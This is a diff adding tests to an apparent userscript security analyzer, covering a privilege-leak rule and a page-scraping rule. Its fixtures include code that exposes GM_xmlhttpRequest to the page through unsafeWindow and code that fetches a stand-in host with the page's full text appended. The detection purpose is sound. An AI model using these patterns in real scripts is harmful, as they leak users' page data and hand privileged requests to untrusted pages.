@@ -213,3 +213,32 @@ describe("what a timer gets", () => {
 		]);
 	});
 });
+
+describe("a function of the manager under a name of its own", () => {
+	const gives = (assignment: string) =>
+		on(`${assignment} = (details) => GM_xmlhttpRequest(details);`, "grant GM_xmlhttpRequest");
+
+	test("stays in the script's own window", () => {
+		expect(sentencesOf("privilege-leak", gives("ask"))).toEqual([]);
+		expect(sentencesOf("privilege-leak", gives("window.ask"))).toEqual([]);
+	});
+
+	test("is given to the page through the page's window", () => {
+		expect(sentencesOf("privilege-leak", gives("unsafeWindow.ask"))).toHaveLength(1);
+		expect(sentencesOf("privilege-leak", gives("const page = unsafeWindow; page.ask"))).toHaveLength(1);
+	});
+});
+
+describe("what would be no danger", () => {
+	/** A look-up that shows what it finds, behind a number of functions. */
+	function lookUp(hops: number): string {
+		const chain = Array.from({ length: hops }, (_, hop) => `function f${hop}(v) { return f${hop + 1}(v); }`);
+		const last = `function f${hops}(v) { fetch("https://n.stranger.test/?" + v).then((r) => r.text()).then(show); }`;
+		return on([...chain, last, "f0(document.body.innerText);"].join("\n"));
+	}
+
+	test("is told when it is certain, and not when it is only possible", () => {
+		expect(sentencesOf("page-scraping", lookUp(1))).toHaveLength(1);
+		expect(sentencesOf("page-scraping", lookUp(4))).toEqual([]);
+	});
+});
